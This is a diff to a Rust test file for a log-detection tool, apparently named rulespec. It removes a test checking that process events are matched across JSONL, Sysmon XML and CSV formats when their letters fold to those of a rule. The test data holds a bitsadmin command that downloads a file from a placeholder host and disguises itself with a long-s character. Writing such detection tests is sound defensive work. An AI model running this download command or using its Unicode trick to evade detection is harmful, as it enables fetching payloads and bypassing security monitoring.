@@ -388,37 +388,3 @@ fn completions_are_for_the_shell_that_is_named() {
     let version = Command::new(cargo_bin("rulespec")).arg("--version").output().unwrap();
     assert_eq!(stdout(&version), format!("rulespec {}\n", env!("CARGO_PKG_VERSION")));
 }
-
-/// Letters that fold to those of the rule, in each format and as its escapes (RUL-30).
-#[test]
-fn events_whose_letters_fold_to_those_of_the_rule_are_found() {
-    let line = r"bitsadmin /Tranſfer j http://files.example/a.bin C:\a.bin";
-    let folder = tempfile::tempdir().unwrap();
-    let write = |name: &str, text: String| {
-        let path = folder.path().join(name);
-        fs::write(&path, text).unwrap();
-        path
-    };
-    let row = json!({"ActionType": "ProcessCreated", "DeviceId": "7", "DeviceName": "pc", "ProcessId": 7,
-        "FileName": "bitſadmin.exe", "ProcessCommandLine": line, "Timestamp": "2026-01-02T03:04:05Z"});
-    let csv = "Timestamp,DeviceId,DeviceName,ActionType,FileName,ProcessCommandLine,ProcessId\r\n";
-    let files = [
-        write("plain.jsonl", format!("{row}\n")),
-        write("escaped.jsonl", format!("{row}\n").replace('ſ', r"\u017f")),
-        write("sysmon.xml", sysmon(1, "2026-01-02T03:04:05Z", line)),
-        write("references.xml", sysmon(2, "2026-01-02T03:04:05Z", line).replace('ſ', "&#x17F;")),
-        write(
-            "portal.csv",
-            format!("{csv}2026-01-02T03:04:05Z,7,pc,ProcessCreated,bitſadmin.exe,{line},7\r\n"),
-        ),
-    ];
-    for file in files {
-        for jobs in ["1", "2"] {
-            let output = run(["--jobs", jobs, "--format", "jsonl", file.to_str().unwrap()]);
-            let found: Vec<Json> =
-                stdout(&output).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
-            let lines: Vec<&Json> = found.iter().map(|found| &found["ProcessCommandLine"]).collect();
-            assert_eq!(lines, [line], "{file:?}: {}", stderr(&output));
-        }
-    }
-}
